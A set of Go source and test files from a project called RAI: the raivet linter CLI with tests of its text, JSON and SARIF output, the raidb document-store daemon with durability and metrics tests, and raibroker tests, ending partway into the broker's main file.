package main

import (
	"bytes"
	"encoding/json"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"rai/internal/lint"
)

func TestListChecks(t *testing.T) {
	var out, errOut bytes.Buffer
	if code := run([]string{"-list"}, &out, &errOut); code != 0 {
		t.Fatalf("run(-list) = %d, stderr: %s", code, errOut.String())
	}
	for _, name := range lint.CheckNames() {
		if !strings.Contains(out.String(), name) {
			t.Errorf("-list output missing check %q", name)
		}
	}
}

func TestUsageErrors(t *testing.T) {
	var out, errOut bytes.Buffer
	if code := run([]string{"-enable", "nope"}, &out, &errOut); code != 2 {
		t.Fatalf("unknown check: exit %d, want 2", code)
	}
	if !strings.Contains(errOut.String(), "nope") {
		t.Fatalf("stderr %q does not name the unknown check", errOut.String())
	}
	errOut.Reset()
	if code := run([]string{"a", "b"}, &out, &errOut); code != 2 {
		t.Fatalf("two dirs: exit %d, want 2", code)
	}
}

// TestFindingsOnFixture points raivet at a planted-violation package and
// checks the exit status, the module-relative paths, and the JSON shape.
// The fixture directory lives under the lint package so both suites
// share one set of golden files.
func TestFindingsOnFixture(t *testing.T) {
	fixture := filepath.Join("..", "..", "internal", "lint", "testdata", "src", "clockbad")

	var out, errOut bytes.Buffer
	code := run([]string{"-enable", "clock", fixture}, &out, &errOut)
	if code != 1 {
		t.Fatalf("exit %d, want 1; stderr: %s", code, errOut.String())
	}
	text := out.String()
	if !strings.Contains(text, "internal/lint/testdata/src/clockbad/clockbad.go:") {
		t.Fatalf("findings not module-relative:\n%s", text)
	}
	if got := strings.Count(text, "[clock]"); got != 3 {
		t.Fatalf("got %d clock findings, want 3:\n%s", got, text)
	}
	if !strings.Contains(errOut.String(), "3 finding(s)") {
		t.Fatalf("stderr summary missing: %q", errOut.String())
	}

	out.Reset()
	errOut.Reset()
	code = run([]string{"-json", "-enable", "clock", fixture}, &out, &errOut)
	if code != 1 {
		t.Fatalf("json run: exit %d, want 1; stderr: %s", code, errOut.String())
	}
	var diags []lint.Diagnostic
	if err := json.Unmarshal(out.Bytes(), &diags); err != nil {
		t.Fatalf("output is not a JSON array: %v\n%s", err, out.String())
	}
	if len(diags) != 3 {
		t.Fatalf("json run: %d findings, want 3", len(diags))
	}
	var lines []int
	for _, d := range diags {
		if d.Check != "clock" {
			t.Errorf("unexpected check %q", d.Check)
		}
		if d.File != "internal/lint/testdata/src/clockbad/clockbad.go" {
			t.Errorf("unexpected file %q", d.File)
		}
		lines = append(lines, d.Line)
	}
	if want := []int{16, 21, 22}; !reflect.DeepEqual(lines, want) {
		t.Errorf("finding lines = %v, want %v", lines, want)
	}
}

func TestCleanPackage(t *testing.T) {
	dir := filepath.Join("..", "..", "internal", "clock")
	var out, errOut bytes.Buffer
	if code := run([]string{dir}, &out, &errOut); code != 0 {
		t.Fatalf("internal/clock should be clean; exit %d\n%s%s", code, out.String(), errOut.String())
	}
	out.Reset()
	if code := run([]string{"-json", dir}, &out, &errOut); code != 0 {
		t.Fatalf("json clean run: exit %d", code)
	}
	if got := strings.TrimSpace(out.String()); got != "[]" {
		t.Fatalf("clean JSON output = %q, want []", got)
	}
}

// TestSARIFOutput drives -sarif against the planted fixture and
// decodes the document with the lint package's own SARIF structs.
func TestSARIFOutput(t *testing.T) {
	fixture := filepath.Join("..", "..", "internal", "lint", "testdata", "src", "clockbad")
	var out, errOut bytes.Buffer
	code := run([]string{"-sarif", "-enable", "clock", fixture}, &out, &errOut)
	if code != 1 {
		t.Fatalf("exit %d, want 1; stderr: %s", code, errOut.String())
	}
	var log lint.SarifLog
	if err := json.Unmarshal(out.Bytes(), &log); err != nil {
		t.Fatalf("output is not SARIF: %v\n%s", err, out.String())
	}
	if len(log.Runs) != 1 || len(log.Runs[0].Results) != 3 {
		t.Fatalf("SARIF runs/results shape wrong:\n%s", out.String())
	}
	for _, r := range log.Runs[0].Results {
		if r.RuleID != "clock" {
			t.Errorf("unexpected rule %q", r.RuleID)
		}
		uri := r.Locations[0].PhysicalLocation.ArtifactLocation.URI
		if uri != "internal/lint/testdata/src/clockbad/clockbad.go" {
			t.Errorf("unexpected artifact URI %q", uri)
		}
	}
}

// TestMaxIgnoresBudget: a clean package with a budget of 0 passes, and
// the budget trips the exit status even when no check fires.
func TestMaxIgnoresBudget(t *testing.T) {
	dir := filepath.Join("..", "..", "internal", "clock")
	var out, errOut bytes.Buffer
	if code := run([]string{"-max-ignores", "0", dir}, &out, &errOut); code != 0 {
		t.Fatalf("clean package, budget 0: exit %d\n%s%s", code, out.String(), errOut.String())
	}
	// The telemetry package carries a live ignore; a budget of 0 from
	// its directory must fail even though the checks themselves pass.
	telemetryDir := filepath.Join("..", "..", "internal", "telemetry")
	out.Reset()
	errOut.Reset()
	code := run([]string{"-max-ignores", "0", telemetryDir}, &out, &errOut)
	if code != 1 {
		t.Fatalf("budget 0 over a package with ignores: exit %d, want 1\n%s", code, errOut.String())
	}
	if !strings.Contains(errOut.String(), "exceed the budget") {
		t.Fatalf("stderr does not explain the budget failure: %q", errOut.String())
	}
}

func TestSplitList(t *testing.T) {
	if got := splitList(""); got != nil {
		t.Fatalf("splitList(\"\") = %v", got)
	}
	got := splitList("clock, span,,httpresp ")
	if want := []string{"clock", "span", "httpresp"}; !reflect.DeepEqual(got, want) {
		t.Fatalf("splitList = %v, want %v", got, want)
	}
}
