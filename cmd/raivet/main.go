// Command raivet runs RAI's project-specific static-analysis checks
// over the module. See internal/lint for the engine; the checks:
//
//	clock       no direct time.Now/Sleep/... outside internal/clock
//	ctxbg       no context.Background()/TODO() in library code
//	ctxfirst    exported functions take ctx as the first parameter
//	deprecated  no calls to deprecated functions
//	span        every started telemetry span is ended or handed off
//	httpresp    every *http.Response body is closed and drained
//	goloop      goroutines do not capture loop variables
//	wgadd       WaitGroup.Add happens before the goroutine it counts
//	lockcopy    no sync-primitive-bearing values passed by value
//	stream      no io.ReadAll in the storage data plane
//	lockorder   no cycles in the whole-module lock-ordering graph
//	goroleak    spawned goroutines cannot block forever uncancellably
//	errflow     error results are not dropped or overwritten unchecked
//	ctxflow     callers with ctx in scope do not pass Background roots
//
// The last four are interprocedural: they run on a whole-module call
// graph with per-function summaries (see internal/lint/summary.go).
//
// Usage:
//
//	raivet [flags] [dir]
//
// dir defaults to ".". raivet locates the enclosing go.mod, loads and
// type-checks every non-test package under dir (every package including
// tests with -tests), and prints one line per finding (-json and -sarif
// switch formats). -max-ignores N budgets the live //lint:ignore
// directives: exceeding N fails the run even when no check fires.
// Exit status: 0 when clean, 1 when findings were reported (or the
// suppression budget is exceeded), 2 on usage or load errors.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"rai/internal/lint"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raivet", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		jsonOut    = fs.Bool("json", false, "emit findings as a JSON array instead of text lines")
		sarifOut   = fs.Bool("sarif", false, "emit findings as a SARIF 2.1.0 document")
		enable     = fs.String("enable", "", "comma-separated checks to run (default: all)")
		disable    = fs.String("disable", "", "comma-separated checks to skip")
		list       = fs.Bool("list", false, "list available checks and exit")
		tests      = fs.Bool("tests", false, "also load _test.go files")
		maxIgnores = fs.Int("max-ignores", -1, "fail when live //lint:ignore directives exceed N (-1: no budget)")
	)
	fs.Usage = func() {
		fmt.Fprintf(stderr, "usage: raivet [flags] [dir]\n")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *list {
		for _, c := range lint.Checks() {
			fmt.Fprintf(stdout, "%-10s %s\n", c.Name, c.Doc)
		}
		return 0
	}
	dir := "."
	switch fs.NArg() {
	case 0:
	case 1:
		dir = fs.Arg(0)
	default:
		fs.Usage()
		return 2
	}
	// Accept "./..." spelling for familiarity with go tool conventions:
	// the tree walk already recurses.
	dir = strings.TrimSuffix(dir, "...")
	if dir == "" {
		dir = "."
	}

	checks, err := lint.Select(splitList(*enable), splitList(*disable))
	if err != nil {
		fmt.Fprintln(stderr, "raivet:", err)
		return 2
	}

	root, modPath, err := lint.ModuleRoot(dir)
	if err != nil {
		fmt.Fprintln(stderr, "raivet:", err)
		return 2
	}
	abs, err := filepath.Abs(dir)
	if err != nil {
		fmt.Fprintln(stderr, "raivet:", err)
		return 2
	}
	loader := lint.NewLoader()
	if *tests {
		loader.IncludeTests()
	}
	prog, err := loader.LoadTree(abs, importPathFor(root, modPath, abs))
	if err != nil {
		fmt.Fprintln(stderr, "raivet:", err)
		return 2
	}

	diags := lint.Run(prog, checks)
	// Report module-relative paths so output is stable across machines.
	for i := range diags {
		if rel, err := filepath.Rel(root, diags[i].File); err == nil && !strings.HasPrefix(rel, "..") {
			diags[i].File = filepath.ToSlash(rel)
		}
	}

	switch {
	case *sarifOut:
		if err := lint.WriteSARIF(stdout, diags); err != nil {
			fmt.Fprintln(stderr, "raivet:", err)
			return 2
		}
	case *jsonOut:
		enc := json.NewEncoder(stdout)
		enc.SetIndent("", "  ")
		if diags == nil {
			diags = []lint.Diagnostic{}
		}
		if err := enc.Encode(diags); err != nil {
			fmt.Fprintln(stderr, "raivet:", err)
			return 2
		}
	default:
		for _, d := range diags {
			fmt.Fprintln(stdout, d.String())
		}
	}
	status := 0
	if len(diags) > 0 {
		if !*jsonOut && !*sarifOut {
			fmt.Fprintf(stderr, "raivet: %d finding(s)\n", len(diags))
		}
		status = 1
	}
	if *maxIgnores >= 0 {
		if n := lint.CountIgnores(prog); n > *maxIgnores {
			fmt.Fprintf(stderr, "raivet: %d live //lint:ignore directive(s) exceed the budget of %d; pay one down before adding another\n", n, *maxIgnores)
			status = 1
		}
	}
	return status
}

// importPathFor maps the directory being linted to its import path
// within the module ("root/internal" -> "modPath/internal").
func importPathFor(root, modPath, dir string) string {
	rel, err := filepath.Rel(root, dir)
	if err != nil || rel == "." {
		return modPath
	}
	return modPath + "/" + filepath.ToSlash(rel)
}

func splitList(s string) []string {
	if s == "" {
		return nil
	}
	var out []string
	for _, part := range strings.Split(s, ",") {
		if part = strings.TrimSpace(part); part != "" {
			out = append(out, part)
		}
	}
	return out
}
