// Command raivet runs RAI's project-specific static-analysis checks
// over the module: clock discipline, context discipline, span and HTTP
// hygiene, and goroutine/lock shapes. See internal/lint for the checks.
//
// Usage:
//
//	raivet [flags] [dir]
//
// dir defaults to ".". raivet locates the enclosing go.mod, loads and
// type-checks every non-test package under dir, and prints one line per
// finding. Exit status: 0 when clean, 1 when findings were reported,
// 2 on usage or load errors.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"rai/internal/lint"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raivet", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		jsonOut = fs.Bool("json", false, "emit findings as a JSON array instead of text lines")
		enable  = fs.String("enable", "", "comma-separated checks to run (default: all)")
		disable = fs.String("disable", "", "comma-separated checks to skip")
		list    = fs.Bool("list", false, "list available checks and exit")
	)
	fs.Usage = func() {
		fmt.Fprintf(stderr, "usage: raivet [flags] [dir]\n")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *list {
		for _, c := range lint.Checks() {
			fmt.Fprintf(stdout, "%-10s %s\n", c.Name, c.Doc)
		}
		return 0
	}
	dir := "."
	switch fs.NArg() {
	case 0:
	case 1:
		dir = fs.Arg(0)
	default:
		fs.Usage()
		return 2
	}
	// Accept "./..." spelling for familiarity with go tool conventions:
	// the tree walk already recurses.
	dir = strings.TrimSuffix(dir, "...")
	if dir == "" {
		dir = "."
	}

	checks, err := lint.Select(splitList(*enable), splitList(*disable))
	if err != nil {
		fmt.Fprintln(stderr, "raivet:", err)
		return 2
	}

	root, modPath, err := lint.ModuleRoot(dir)
	if err != nil {
		fmt.Fprintln(stderr, "raivet:", err)
		return 2
	}
	abs, err := filepath.Abs(dir)
	if err != nil {
		fmt.Fprintln(stderr, "raivet:", err)
		return 2
	}
	prog, err := lint.NewLoader().LoadTree(abs, importPathFor(root, modPath, abs))
	if err != nil {
		fmt.Fprintln(stderr, "raivet:", err)
		return 2
	}

	diags := lint.Run(prog, checks)
	// Report module-relative paths so output is stable across machines.
	for i := range diags {
		if rel, err := filepath.Rel(root, diags[i].File); err == nil && !strings.HasPrefix(rel, "..") {
			diags[i].File = filepath.ToSlash(rel)
		}
	}

	if *jsonOut {
		enc := json.NewEncoder(stdout)
		enc.SetIndent("", "  ")
		if diags == nil {
			diags = []lint.Diagnostic{}
		}
		if err := enc.Encode(diags); err != nil {
			fmt.Fprintln(stderr, "raivet:", err)
			return 2
		}
	} else {
		for _, d := range diags {
			fmt.Fprintln(stdout, d.String())
		}
	}
	if len(diags) > 0 {
		if !*jsonOut {
			fmt.Fprintf(stderr, "raivet: %d finding(s)\n", len(diags))
		}
		return 1
	}
	return 0
}

// importPathFor maps the directory being linted to its import path
// within the module ("root/internal" -> "modPath/internal").
func importPathFor(root, modPath, dir string) string {
	rel, err := filepath.Rel(root, dir)
	if err != nil || rel == "." {
		return modPath
	}
	return modPath + "/" + filepath.ToSlash(rel)
}

func splitList(s string) []string {
	if s == "" {
		return nil
	}
	var out []string
	for _, part := range strings.Split(s, ",") {
		if part = strings.TrimSpace(part); part != "" {
			out = append(out, part)
		}
	}
	return out
}
