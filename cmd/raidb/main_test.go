package main

import (
	"bytes"
	"path/filepath"
	"testing"
	"time"

	"rai/internal/docstore"
)

func TestJournalDurabilityAcrossRestart(t *testing.T) {
	journal := filepath.Join(t.TempDir(), "db.journal")
	boot := func() (addr string, stop func()) {
		ready := make(chan string, 1)
		quit := make(chan struct{})
		var out, errb bytes.Buffer
		done := make(chan int, 1)
		go func() {
			done <- run([]string{"-addr", "127.0.0.1:0", "-journal", journal}, &out, &errb, ready, quit)
		}()
		select {
		case addr = <-ready:
		case <-time.After(5 * time.Second):
			t.Fatalf("raidb never ready: %s", errb.String())
		}
		return addr, func() {
			close(quit)
			select {
			case <-done:
			case <-time.After(5 * time.Second):
				t.Error("raidb did not stop")
			}
		}
	}
	addr, stop := boot()
	c := docstore.NewClient("http://" + addr)
	if _, err := c.Insert("rankings", docstore.M{"team": "alpha", "runtime_s": 0.45}); err != nil {
		t.Fatal(err)
	}
	stop()

	// Restart on the same journal: the ranking row survives.
	addr2, stop2 := boot()
	defer stop2()
	c2 := docstore.NewClient("http://" + addr2)
	doc, err := c2.FindOne("rankings", docstore.M{"team": "alpha"})
	if err != nil || doc["runtime_s"] != 0.45 {
		t.Fatalf("after restart: %v, %v", doc, err)
	}
}

func TestServesDocuments(t *testing.T) {
	ready := make(chan string, 1)
	quit := make(chan struct{})
	var out, errb bytes.Buffer
	done := make(chan int, 1)
	go func() { done <- run([]string{"-addr", "127.0.0.1:0"}, &out, &errb, ready, quit) }()
	var addr string
	select {
	case addr = <-ready:
	case <-time.After(5 * time.Second):
		t.Fatalf("raidb never ready: %s", errb.String())
	}
	defer func() {
		close(quit)
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			t.Error("raidb did not stop")
		}
	}()

	c := docstore.NewClient("http://" + addr)
	id, err := c.Insert("jobs", docstore.M{"user": "t1", "status": "running"})
	if err != nil || id == "" {
		t.Fatalf("insert: %q, %v", id, err)
	}
	n, err := c.Count("jobs", docstore.M{"status": "running"})
	if err != nil || n != 1 {
		t.Fatalf("count = %d, %v", n, err)
	}
	if _, err := c.Update("jobs", docstore.M{"user": "t1"}, docstore.M{"$set": docstore.M{"status": "succeeded"}}); err != nil {
		t.Fatal(err)
	}
	doc, err := c.FindOne("jobs", docstore.M{"user": "t1"})
	if err != nil || doc["status"] != "succeeded" {
		t.Fatalf("doc = %v, %v", doc, err)
	}
}
