package main

import (
	"bytes"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"rai/internal/docstore"
)

var metricsLine = regexp.MustCompile(`metrics on (http://[^/\s]+/metrics)`)

func TestMetricsAddrExposesDBTelemetry(t *testing.T) {
	ready := make(chan string, 1)
	quit := make(chan struct{})
	var out, errb bytes.Buffer
	done := make(chan int, 1)
	go func() {
		done <- run([]string{"-addr", "127.0.0.1:0", "-metrics-addr", "127.0.0.1:0"}, &out, &errb, ready, quit)
	}()
	defer func() {
		close(quit)
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			t.Error("daemon did not stop")
		}
	}()
	var addr string
	select {
	case addr = <-ready:
	case <-time.After(5 * time.Second):
		t.Fatalf("daemon never ready: %s", errb.String())
	}

	c := docstore.NewClient("http://" + addr)
	if _, err := c.Insert("jobs", docstore.M{"job_id": "j1"}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Find("jobs", docstore.M{"job_id": "j1"}, docstore.FindOpts{}); err != nil {
		t.Fatal(err)
	}

	m := metricsLine.FindStringSubmatch(out.String())
	if m == nil {
		t.Fatalf("no metrics address announced:\n%s", out.String())
	}
	resp, err := http.Get(m[1])
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	for _, want := range []string{
		`rai_docstore_requests_total{verb="insert"} 1`,
		`rai_docstore_requests_total{verb="find"} 1`,
		"rai_docstore_requests_in_flight 0",
		`rai_docstore_request_seconds_count{verb="insert"} 1`,
	} {
		if !strings.Contains(string(body), want) {
			t.Errorf("metrics missing %q:\n%s", want, body)
		}
	}
}
