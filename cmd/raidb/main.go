// Command raidb runs the RAI metadata database: the MongoDB-like
// document store holding submission records, execution times, logs
// pointers, and competition rankings (paper §IV "MongoDB Database").
//
// Usage:
//
//	raidb [-addr host:port] [-journal file] [-metrics-addr host:port] [-pprof] [-broker host:port]
//	      [-trace-sample 1] [-ready-file path] [-version]
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/signal"
	"path/filepath"
	"syscall"
	"time"

	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/readyfile"
	"rai/internal/telemetry"
)

// version is stamped by the CI pipeline; kept in lockstep with cmd/rai.
const version = "0.2.0-dev"

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr, nil, nil))
}

func run(args []string, stdout, stderr io.Writer, ready chan<- string, quit <-chan struct{}) int {
	fs := flag.NewFlagSet("raidb", flag.ContinueOnError)
	fs.SetOutput(stderr)
	addr := fs.String("addr", "127.0.0.1:7402", "listen address")
	journal := fs.String("journal", "", "journal file for durability (empty = in-memory only)")
	storeBackend := fs.String("store-backend", "", "journal storage backend: memory or disk (default: disk when a journal path or -store-root is set, else memory)")
	storeRoot := fs.String("store-root", "", "root directory for the disk backend; the journal lives at <root>/rai.journal")
	metricsAddr := fs.String("metrics-addr", "", "serve GET /metrics on this address (empty = disabled)")
	pprofOn := fs.Bool("pprof", false, "mount /debug/pprof on the metrics address")
	brokerAddr := fs.String("broker", "", "broker address for shipping spans/events to the collector (empty = off)")
	traceSample := fs.Float64("trace-sample", 1, "head-sampling rate for traces this server starts spans for; propagated X-RAI-Sampled verdicts always win")
	drain := fs.Duration("drain", 10*time.Second, "in-flight request drain budget at shutdown")
	readyPath := fs.String("ready-file", "", "write a JSON readiness document (pid, bound addresses) here once serving")
	showVersion := fs.Bool("version", false, "print build information and exit")
	fs.StringVar(addr, "listen", *addr, "alias for -addr (\":0\" picks a free port, reported on stdout and the ready file)")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *showVersion {
		fmt.Fprintln(stdout, telemetry.NewStamp("raidb", version))
		return 0
	}
	var handlerOpts []docstore.HandlerOption
	var reg *telemetry.Registry
	var metricsBound string
	health := telemetry.NewHealth()
	if *metricsAddr != "" {
		reg = telemetry.NewRegistry()
		telemetry.RegisterBuildInfo(reg, "raidb", version, nil)
		telemetry.RegisterProcessMetrics(reg)
		handlerOpts = append(handlerOpts, docstore.WithTelemetry(reg))
		mounts := []func(*http.ServeMux){health.Mount}
		if *pprofOn {
			mounts = append(mounts, telemetry.MountPprof)
		}
		maddr, closeMetrics, err := reg.ServeMetrics(*metricsAddr, mounts...)
		if err != nil {
			fmt.Fprintf(stderr, "raidb: metrics listener: %v\n", err)
			return 1
		}
		defer closeMetrics()
		metricsBound = maddr
		fmt.Fprintf(stdout, "raidb metrics on http://%s/metrics\n", maddr)
	}
	// With a broker configured, finished spans (including the child spans
	// opened for traced requests) and log events ship to the collector.
	if *brokerAddr != "" {
		queue, err := core.NewRemoteQueue(context.Background(), *brokerAddr)
		if err != nil {
			fmt.Fprintf(stderr, "raidb: broker: %v\n", err)
			return 1
		}
		defer queue.Close()
		exp := telemetry.NewExporter(context.Background(), "raidb", core.ShipTelemetry(queue),
			telemetry.WithExportMetrics(reg))
		defer exp.Close()
		// The sampler honors propagated X-RAI-Sampled verdicts (noted by
		// the handler) and hashes orphan traces at the local rate; spans
		// of dropped traces are filtered before the export queue.
		var sampler *telemetry.Sampler
		if *traceSample < 1 {
			sampler = telemetry.NewSampler(*traceSample, telemetry.WithSamplerMetrics(reg))
			handlerOpts = append(handlerOpts, docstore.WithHandlerSampler(sampler))
		}
		tracer := telemetry.NewTracer(4096, telemetry.WithSpanSink(sampler.SpanSink(exp.ExportSpan)),
			telemetry.WithTracerInstance(telemetry.NewInstanceID("raidb")))
		handlerOpts = append(handlerOpts, docstore.WithHandlerTracer(tracer))
		logger := telemetry.NewLogger("raidb",
			telemetry.WithLogWriter(stderr), telemetry.WithLogSink(exp.ExportEvent))
		logger.Info(context.Background(), "database started", telemetry.L("addr", *addr))
	}
	// Backend selection mirrors raifs: -store-backend names it
	// explicitly; otherwise a journal path (or -store-root) implies disk.
	journalPath := *journal
	if journalPath == "" && *storeRoot != "" {
		journalPath = filepath.Join(*storeRoot, "rai.journal")
	}
	backend := *storeBackend
	if backend == "" {
		if journalPath != "" {
			backend = "disk"
		} else {
			backend = "memory"
		}
	}
	var handler http.Handler
	switch backend {
	case "disk":
		if journalPath == "" {
			fmt.Fprintln(stderr, "raidb: -store-backend disk requires -journal or -store-root")
			return 2
		}
		pdb, err := docstore.OpenPersistent(journalPath)
		if err != nil {
			fmt.Fprintf(stderr, "raidb: opening journal: %v\n", err)
			return 1
		}
		defer pdb.Close()
		handler = docstore.HandlerStore(pdb, nil, handlerOpts...)
		fmt.Fprintf(stdout, "raidb journaling to %s\n", journalPath)
	case "memory":
		handler = docstore.HandlerStore(docstore.New(), nil, handlerOpts...)
	default:
		fmt.Fprintf(stderr, "raidb: unknown -store-backend %q (want memory or disk)\n", backend)
		return 2
	}
	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		fmt.Fprintf(stderr, "raidb: %v\n", err)
		return 1
	}
	srv := &http.Server{Handler: handler}
	go func() { _ = srv.Serve(ln) }()
	fmt.Fprintf(stdout, "raidb listening on %s\n", ln.Addr())
	if *readyPath != "" {
		info := readyfile.Info{Service: "raidb", PID: os.Getpid(), Addr: ln.Addr().String(), MetricsAddr: metricsBound}
		if err := readyfile.Write(*readyPath, info); err != nil {
			fmt.Fprintf(stderr, "raidb: %v\n", err)
			return 1
		}
	}
	if ready != nil {
		ready <- ln.Addr().String()
	}
	health.SetReady(true)
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	select {
	case <-quit: // nil when running as a real daemon: blocks forever
	case <-ctx.Done():
		fmt.Fprintln(stdout, "raidb shutting down")
	}
	// Graceful drain: in-flight queries finish (and reach the journal)
	// before the listener goes away. Readiness flips first so load
	// balancers stop routing before the listener dies.
	health.SetReady(false)
	dctx, cancel := context.WithTimeout(context.Background(), *drain)
	defer cancel()
	if err := srv.Shutdown(dctx); err != nil {
		_ = srv.Close()
	}
	return 0
}
