package main

import (
	"bytes"
	"context"
	"testing"
	"time"

	"rai/internal/brokerd"
)

func TestDaemonServesAndShutsDown(t *testing.T) {
	ready := make(chan string, 1)
	quit := make(chan struct{})
	var out, errb bytes.Buffer
	done := make(chan int, 1)
	go func() { done <- run([]string{"-addr", "127.0.0.1:0"}, &out, &errb, ready, quit) }()
	var addr string
	select {
	case addr = <-ready:
	case <-time.After(5 * time.Second):
		t.Fatal("daemon never became ready")
	}
	// A real client can publish and subscribe through the daemon.
	ctx := context.Background()
	pub, err := brokerd.DialContext(ctx, addr)
	if err != nil {
		t.Fatal(err)
	}
	defer pub.Close()
	sub, err := brokerd.DialContext(ctx, addr)
	if err != nil {
		t.Fatal(err)
	}
	defer sub.Close()
	if err := sub.Subscribe(ctx, "rai", "tasks", 1); err != nil {
		t.Fatal(err)
	}
	if _, err := pub.Publish(ctx, "rai", []byte("job")); err != nil {
		t.Fatal(err)
	}
	select {
	case d := <-sub.C():
		if string(d.Body) != "job" {
			t.Fatalf("delivery = %q", d.Body)
		}
		sub.Ack(ctx, d)
	case <-time.After(3 * time.Second):
		t.Fatal("no delivery through daemon")
	}
	close(quit)
	select {
	case code := <-done:
		if code != 0 {
			t.Fatalf("exit code %d: %s", code, errb.String())
		}
	case <-time.After(5 * time.Second):
		t.Fatal("daemon did not stop")
	}
}

func TestBadFlags(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run([]string{"-bogus"}, &out, &errb, nil, nil); code != 2 {
		t.Fatalf("bad flag exit = %d", code)
	}
	if code := run([]string{"-addr", "256.0.0.1:99999"}, &out, &errb, nil, nil); code != 1 {
		t.Fatalf("bad addr exit = %d", code)
	}
}
