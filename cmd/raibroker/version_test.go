package main

import (
	"bytes"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"rai/internal/readyfile"
)

// TestVersionFlag checks the -version fast path: print the stamp, exit
// 0, never bind a listener.
func TestVersionFlag(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run([]string{"-version"}, &out, &errb, nil, nil); code != 0 {
		t.Fatalf("exit %d: %s", code, errb.String())
	}
	if !strings.Contains(out.String(), "raibroker") || !strings.Contains(out.String(), "go1") {
		t.Fatalf("version output %q", out.String())
	}
}

// TestReadyFileAndListenAlias starts the daemon with -listen :0 and a
// ready file, and checks the file reports the actual bound port.
func TestReadyFileAndListenAlias(t *testing.T) {
	path := filepath.Join(t.TempDir(), "broker.ready")
	ready := make(chan string, 1)
	quit := make(chan struct{})
	var out, errb bytes.Buffer
	done := make(chan int, 1)
	go func() {
		done <- run([]string{"-listen", "127.0.0.1:0", "-metrics-addr", "127.0.0.1:0",
			"-ready-file", path}, &out, &errb, ready, quit)
	}()
	var addr string
	select {
	case addr = <-ready:
	case <-time.After(5 * time.Second):
		t.Fatal("daemon never became ready")
	}
	info, err := readyfile.Read(path)
	if err != nil {
		t.Fatal(err)
	}
	if info.Service != "raibroker" || info.PID <= 0 {
		t.Fatalf("info = %+v", info)
	}
	if info.Addr != addr {
		t.Fatalf("ready file addr %q, bound %q", info.Addr, addr)
	}
	if strings.HasSuffix(info.Addr, ":0") || info.MetricsAddr == "" || strings.HasSuffix(info.MetricsAddr, ":0") {
		t.Fatalf("ready file did not resolve :0 -> bound ports: %+v", info)
	}
	close(quit)
	select {
	case code := <-done:
		if code != 0 {
			t.Fatalf("exit code %d: %s", code, errb.String())
		}
	case <-time.After(5 * time.Second):
		t.Fatal("daemon did not stop")
	}
}
