package main

import (
	"bytes"
	"context"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"rai/internal/brokerd"
)

var metricsLine = regexp.MustCompile(`metrics on (http://[^/\s]+/metrics)`)

func scrapeMetrics(t *testing.T, out *bytes.Buffer) string {
	t.Helper()
	m := metricsLine.FindStringSubmatch(out.String())
	if m == nil {
		t.Fatalf("no metrics address announced:\n%s", out.String())
	}
	resp, err := http.Get(m[1])
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s = %d", m[1], resp.StatusCode)
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(body)
}

func TestMetricsAddrExposesBrokerTelemetry(t *testing.T) {
	ready := make(chan string, 1)
	quit := make(chan struct{})
	var out, errb bytes.Buffer
	done := make(chan int, 1)
	go func() {
		done <- run([]string{"-addr", "127.0.0.1:0", "-metrics-addr", "127.0.0.1:0"}, &out, &errb, ready, quit)
	}()
	defer func() {
		close(quit)
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			t.Error("daemon did not stop")
		}
	}()
	var addr string
	select {
	case addr = <-ready:
	case <-time.After(5 * time.Second):
		t.Fatalf("daemon never ready: %s", errb.String())
	}

	c, err := brokerd.DialContext(context.Background(), addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Publish(context.Background(), "rai", []byte("job")); err != nil {
		t.Fatal(err)
	}

	body := scrapeMetrics(t, &out)
	for _, want := range []string{
		`rai_broker_publish_total{topic="rai"} 1`,
		`rai_brokerd_ops_total{op="PUB"} 1`,
		`rai_broker_queue_depth{channel="tasks",topic="rai"}`,
		"rai_brokerd_connections 1",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("metrics missing %q:\n%s", want, body)
		}
	}
}
