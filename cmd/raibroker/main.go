// Command raibroker runs the RAI message broker as a standalone TCP
// daemon — the queue service of the paper's Figure 1. Clients publish
// job requests onto rai/tasks; workers subscribe and stream job output
// back on ephemeral log_${job_id} topics.
//
// Usage:
//
//	raibroker [-addr host:port] [-metrics-addr host:port] [-pprof]
//	          [-ready-file path] [-version]
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/signal"
	"syscall"

	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/core"
	"rai/internal/readyfile"
	"rai/internal/telemetry"
)

